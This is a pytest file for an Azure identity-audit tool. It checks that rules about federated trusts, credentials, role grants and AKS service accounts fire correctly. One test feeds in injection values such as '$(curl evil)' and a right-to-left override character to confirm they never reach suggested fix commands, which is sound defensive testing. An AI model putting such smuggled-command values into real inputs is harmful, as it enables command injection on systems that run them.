"""What an audit says of a tenant: every rule fires, is silent where all is well, and where nothing is known."""

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from playbooks.auditing import judging, tables
from playbooks.auditing.model import Tenant
from playbooks.auditing.rules import ORDER, RULES
from playbooks.runs.model import Finding
from tests.a_tenant import (
    APP,
    CONTRIBUTOR,
    GITHUB,
    ISSUER,
    OTHER_TENANT,
    OWNER,
    PRINCIPAL,
    READER,
    SUBSCRIPTION,
    TENANT,
    account,
    ago,
    cluster,
    grant,
    holder,
    log,
    runner,
    secret,
    tenant,
    trust,
)

GROUP = f"{SUBSCRIPTION}/resourceGroups/rg-orders"
LEGACY: dict[str, Any] = {
    "container": "app",
    "how": "AZURE_CLIENT_SECRET from key secret of Secret sp",
    "secret": "sp",
    "client_id": APP,
    "certain": True,
}
IDENTITY = f"{SUBSCRIPTION}/resourceGroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/pay"


def _trusting(**changed: Any) -> Tenant:
    return tenant(holder(trusts=[trust(**changed)]))


def _holding(*grants: Any, **changed: Any) -> Tenant:
    return tenant(grants={PRINCIPAL: list(grants)}, **changed)


def _foreign(host: str) -> str:
    return f"https://{host}/{OTHER_TENANT}/c0000000-0000-4000-8000-000000000009/"


CASES = {
    "trust-foreign-tenant": _trusting(issuer=_foreign("westeurope.oic.prod-aks.azure.com")),
    "trust-unknown-issuer": _trusting(issuer="https://evil.example/"),
    "trust-wildcard": _trusting(
        issuer=GITHUB,
        subject=None,
        claims_matching_expression={"value": "claims['sub'] matches 'repo:contoso/*'"},
    ),
    "trust-gone-cluster": _trusting(issuer=ISSUER[:-2] + "9/"),
    "trust-near-miss": _trusting(issuer=ISSUER.rstrip("/")),
    "trust-no-account": _trusting(subject="system:serviceaccount:shop:gone"),
    "trust-default-account": _trusting(subject="system:serviceaccount:shop:default"),
    "trust-expression-unread": _trusting(issuer=GITHUB, subject=None, expression_unread="403"),
    "trust-flexible": _trusting(
        issuer=GITHUB,
        subject=None,
        claims_matching_expression={"value": "claims['sub'] eq 'repo:contoso/shop:main'"},
    ),
    "trust-odd-audience": _trusting(audiences=["api://everybody"]),
    "trust-headroom": tenant(
        holder(trusts=[trust(id=f"f{one:035d}", name=str(one)) for one in range(19)])
    ),
    "trust-of-disabled": tenant(holder(enabled=False)),
    "credential-on-principal": tenant(holder(credentials=[secret(holder="service_principal")])),
    "credential-beside-trusts": tenant(holder(credentials=[secret()])),
    "credential-expiring": tenant(holder(credentials=[secret(ends=ago(-5))])),
    "credential-old": tenant(holder(credentials=[secret(started=ago(200))])),
    "credential-expired": tenant(holder(credentials=[secret(ends=ago(1))])),
    "owner-missing": tenant(holder(application={**(holder().application or {}), "owners": []})),
    "owner-is-workload": tenant(
        holder(
            application={
                **(holder().application or {}),
                "owners": [{"object_id": "x", "name": "bot", "kind": "servicePrincipal"}],
            }
        )
    ),
    "role-owner-level": _holding(grant(OWNER, GROUP)),
    "role-broad": _holding(grant(CONTRIBUTOR, SUBSCRIPTION)),
    "role-unused": _holding(grant(CONTRIBUTOR, GROUP)),
    "role-orphaned": tenant(orphans=[grant(READER, GROUP, principal_id="gone")]),
    "identity-unused": tenant(
        use={**tenant().use, "application_sign_ins": log(last={})},
    ),
    "account-unknown-client": tenant(
        clusters=[cluster(accounts=[account(client_id=OTHER_TENANT)], runners=[])]
    ),
    "account-without-pods": tenant(
        clusters=[cluster(accounts=[account(runners=0, pods=0)], runners=[])]
    ),
    "label-without-trust": tenant(
        holder(trusts=[trust(issuer=GITHUB, subject="repo:contoso/shop:main")])
    ),
    "label-without-identity": tenant(clusters=[cluster(accounts=[])]),
    "secret-mounted": tenant(clusters=[cluster(runners=[runner(legacy=[LEGACY])])]),
    "secret-mounted-maybe": tenant(
        clusters=[cluster(runners=[runner(legacy=[{**LEGACY, "certain": False}])])]
    ),
}


def _rules(found: list[Finding]) -> set[str]:
    return {one["rule"] for one in found}


def test_a_sound_tenant_has_no_finding() -> None:
    assert judging.judge(tenant()) == []
    assert judging.unread(tenant()) == []


def test_every_rule_is_in_the_runbook_as_it_is() -> None:
    page = (Path(__file__).parent.parent / "docs" / "runbooks" / "audit-identities.md").read_text()

    for name, rule in RULES.items():
        assert f"| `{name}` | {rule.severity} | {rule.means} |" in page


def test_every_rule_has_a_case() -> None:
    assert CASES.keys() == RULES.keys()


@pytest.mark.parametrize("rule", sorted(RULES))
def test_each_rule_fires_with_a_fix_and_a_subject(rule: str) -> None:
    found = [one for one in judging.judge(CASES[rule]) if one["rule"] == rule]

    assert len(found) == 1
    assert found[0]["severity"] in ORDER
    assert found[0]["subject"] == found[0]["subject"].lower()
    assert found[0]["fix"]
    assert found[0]["detail"]


def test_a_known_issuer_is_no_finding_and_a_cluster_that_cant_be_read_is_none_either() -> None:
    pipeline = _trusting(issuer=GITHUB, subject="repo:contoso/shop:ref:refs/heads/main")
    unread = tenant(clusters=[cluster(accounts=[], account_names=[], runners=[], unread="403")])

    assert _rules(judging.judge(pipeline)) == {"label-without-trust"}
    assert judging.judge(unread) == []
    assert judging.unread(unread) == ["aks-weu: 403"]


def test_an_entra_issuer_is_our_own_or_a_foreign_tenants() -> None:
    own = _trusting(issuer=f"https://login.microsoftonline.com/{TENANT}/v2.0", subject="an id")
    other = _trusting(issuer=f"https://login.microsoftonline.com/{OTHER_TENANT}/v2.0", subject="x")

    assert not _rules(judging.judge(own)) & {"trust-foreign-tenant", "trust-unknown-issuer"}
    assert "trust-foreign-tenant" in _rules(judging.judge(other))


@pytest.mark.parametrize(
    ("sign_ins", "gap"),
    [
        (None, None),
        (log(oldest=None, last={}), "no row"),
        (log(oldest=ago(10), last={}), "begins"),
    ],
)
def test_nothing_is_called_unused_by_a_log_that_cant_tell(sign_ins: Any, gap: str | None) -> None:
    unsure = tenant(use={**tenant().use, "application_sign_ins": sign_ins})

    assert "identity-unused" not in _rules(judging.judge(unsure))
    said = judging.unread(unsure)
    assert gap is None or any(gap in one for one in said)
    assert tables.inventory(unsure, [])[0][9] == "not known"


def test_a_new_identity_and_a_new_role_are_not_called_unused() -> None:
    quiet = {**tenant().use, "application_sign_ins": log(last={}), "activity": log()}
    fresh = tenant(holder(created=ago(5)), use=quiet)
    given = _holding(grant(CONTRIBUTOR, GROUP, created_on=ago(5)))

    assert judging.judge(fresh) == []
    assert judging.judge(given) == []


def test_a_role_that_the_activity_log_names_is_used_and_one_that_reads_is_not_judged() -> None:
    used = grant(CONTRIBUTOR, GROUP)
    name = used["id"].rpartition("/")[2]
    known = _holding(used, use={**tenant().use, "activity": log(last={name: ago(3)})})

    assert judging.judge(known) == []
    assert judging.judge(_holding(grant(READER, SUBSCRIPTION))) == []


@pytest.mark.parametrize(
    ("scope", "severity"),
    [("/", "critical"), (SUBSCRIPTION, "critical"), (GROUP, "high")],
)
def test_an_owner_is_worse_the_higher_it_stands(scope: str, severity: str) -> None:
    found = judging.judge(_holding(grant(OWNER, scope)))

    assert {one["severity"] for one in found if one["rule"] == "role-owner-level"} == {severity}


def test_what_firebreak_itself_may_do_is_told_and_left_to_its_own_check() -> None:
    tenant = _holding(grant(OWNER, "/"))
    tenant.ours = frozenset({PRINCIPAL})

    (found,) = judging.judge(tenant)

    assert (found["rule"], found["severity"]) == ("role-owner-level", "medium")
    assert "firebreak doctor" in found["detail"]


def test_a_role_that_a_group_carries_is_judged_as_its_members_and_not_by_use() -> None:
    carried = grant(OWNER, GROUP, via="a-group", principal_id="a-group", principal_type="Group")

    (found,) = judging.judge(_holding(carried))

    assert found["rule"] == "role-owner-level"
    assert found["subject"].endswith(f"#{holder().object_id}")
    assert found["fix"] == f"az ad group member remove --group a-group --member-id {PRINCIPAL}"
    assert "by group a-group" in found["detail"]


def test_a_managed_identity_is_judged_by_both_sign_in_logs() -> None:
    identity = holder(resource_id=IDENTITY, application=None, name="pay")
    one_log = {**tenant().use, "application_sign_ins": log(last={}), "identity_sign_ins": None}
    both = {**one_log, "identity_sign_ins": log(last={})}

    assert judging.judge(tenant(identity, use=one_log)) == []
    (unused,) = judging.judge(tenant(identity, use=both))
    assert unused["rule"] == "identity-unused"
    assert "az identity federated-credential delete" in unused["fix"]


def test_what_a_cluster_stands_on_has_its_roles_from_aks_and_no_more() -> None:
    own = holder(resource_id=IDENTITY, application=None, trusts=[], duty="kubelet of aks-weu")
    quiet = {
        **tenant().use,
        "application_sign_ins": log(last={}),
        "identity_sign_ins": log(last={}),
    }
    clean = {"clusters": [cluster(accounts=[], runners=[])], "use": quiet}
    fitting = tenant(own, grants={PRINCIPAL: [grant(OWNER, GROUP)]}, **clean)
    too_much = tenant(own, grants={PRINCIPAL: [grant(OWNER, SUBSCRIPTION)]}, **clean)

    assert judging.judge(fitting) == []
    assert "role-owner-level" in _rules(judging.judge(too_much))


def test_pods_of_an_identity_whose_trusts_could_not_be_read_are_not_called_broken() -> None:
    blind = tenant(holder(resource_id=IDENTITY, application=None, trusts=[], trusts_unread=True))

    assert judging.judge(blind) == []
    assert judging.unread(blind) == [f"trusts of the managed identity {IDENTITY}"]


def test_what_others_wrote_is_shown_without_its_tricks_and_reaches_no_command() -> None:
    evil = "x\u202e\n$(curl evil)"
    legacy = {**LEGACY, "client_id": "$(curl evil)"}
    found = judging.judge(
        tenant(
            holder(name=evil, trusts=[trust(name=evil, issuer="https://evil.example/")]),
            clusters=[
                cluster(
                    accounts=[account(client_id="$(curl evil)")], runners=[runner(legacy=[legacy])]
                )
            ],
        )
    )

    assert found
    assert all("\u202e" not in str(one) and "\n" not in one["detail"] for one in found)
    assert all("$(curl" not in one["fix"] for one in found)


def test_the_steps_of_a_migration_begin_with_the_trust_and_end_with_the_secret() -> None:
    (found,) = (
        one for one in judging.judge(CASES["secret-mounted"]) if one["rule"] == "secret-mounted"
    )

    steps = found["fix"].split("; ")
    assert steps[0].startswith("1. trust system:serviceaccount:shop:orders-api of https://")
    assert "delete secret sp" in found["fix"]
    assert steps[-1].startswith("6. az ad app credential list")
    assert found["fix"].index("annotate sa") < found["fix"].index("delete secret")


def test_the_inventory_puts_the_worst_first_and_says_what_it_does_not_know() -> None:
    quiet = holder(object_id="o2", principal_id="p2", app_id="a2", name="a-quiet-one")
    loud = holder(trusts=[trust(issuer="https://evil.example/")])
    both = tenant(quiet, loud, grants={PRINCIPAL: [grant("unread", GROUP)]})

    rows = tables.inventory(both, judging.judge(both))

    assert [(row[1], row[11]) for row in rows] == [
        ("orders-api", "high"),
        ("a-quiet-one", "medium"),
    ]
    assert rows[0][8] == "not read"
    assert len(rows[0]) == len(tables.COLUMNS)


def test_a_finding_of_the_same_rule_and_subject_is_there_once() -> None:
    twice = tenant(clusters=[cluster(accounts=[account(), account()], runners=[])])
    lonely = replace(
        twice, clusters=[cluster(accounts=[account(runners=0, pods=0)] * 2, runners=[])]
    )

    assert len(judging.judge(lonely)) == 1
